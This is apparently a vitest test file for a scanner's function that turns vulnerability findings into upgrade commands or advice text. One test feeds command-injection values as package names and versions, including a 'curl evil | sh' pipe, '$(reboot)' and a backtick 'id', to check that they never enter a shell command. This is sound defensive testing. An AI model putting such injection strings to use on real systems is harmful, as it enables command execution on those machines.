import { expect, test } from 'vitest';
import { NO_REMEDIATION } from '../domain/finding.ts';
import { remediationOf } from './remediation.ts';

test.each([
  ['deb', 'libssl3', '3.0.15-1~deb12u1', 'apt-get update && apt-get install --only-upgrade libssl3'],
  ['apk', 'busybox', '1.36.1-r6', 'apk upgrade busybox'],
  ['npm', '@scope/x', '1.2.3', 'npm install @scope/x@1.2.3'],
  ['pypi', 'requests', '2.32.0', "pip install 'requests>=2.32.0'"],
  ['golang', 'golang.org/x/net', '0.17.0', 'go get golang.org/x/net@v0.17.0'],
  ['maven', 'org.x:y', '1.1', 'Update org.x:y to 1.1 or later'],
])('%s', (type, name, fix, text) => {
  expect(remediationOf(type, name, { fixedVersion: fix })).toBe(text);
});

test('no fix, no remedy', () => expect(remediationOf('deb', 'zlib1g', {})).toBe(NO_REMEDIATION));

test.each(["x'; curl evil | sh; '", '$(reboot)', '-rf', 'a b', 'x`id`'])('%s never enters a command', (name) => {
  expect(remediationOf('npm', name, { fixedVersion: '1.0.0' })).toBe(`Update ${name} to 1.0.0 or later`);
  expect(remediationOf('npm', 'lodash', { fixedVersion: name })).toBe(`Update lodash to ${name} or later`);
});

test('the text fits the wire', () =>
  expect(remediationOf('npm', 'x'.repeat(5000), { fixedVersion: '1' }).length).toBe(1024));

test.each([
  [[{ channel: 'esm-infra', fixedVersion: '1.2-3~esm1' }], 'Attach Ubuntu Pro (esm-infra) to get 1.2-3~esm1'],
  [[{ channel: 'ros-esm', fixedVersion: '1' }], 'Attach Ubuntu Pro (ros-esm) to get 1'],
  [[{ channel: 'eus-9.4', fixedVersion: '1.2-3.el9_4' }], 'Available with eus-9.4: 1.2-3.el9_4'],
  [
    [
      { channel: 'esm-apps', fixedVersion: '2' },
      { channel: 'fips', fixedVersion: '3' },
    ],
    'Attach Ubuntu Pro (esm-apps) to get 2; Available with fips: 3',
  ],
])('a fix of a channel alone: %j', (channelFixes, text) => {
  expect(remediationOf('deb', 'zlib1g', { channelFixes })).toBe(text);
  expect(remediationOf('apk', 'zlib', { channelFixes, fixedVersion: '9' })).toBe('apk upgrade zlib');
});

test('what is installed already needs a boot', () => {
  const fixes = { fixedVersion: '6.1.2', rebootPending: true } as const;
  expect(remediationOf('deb', 'linux-image-amd64', fixes)).toBe('Reboot: the fix is installed');
});
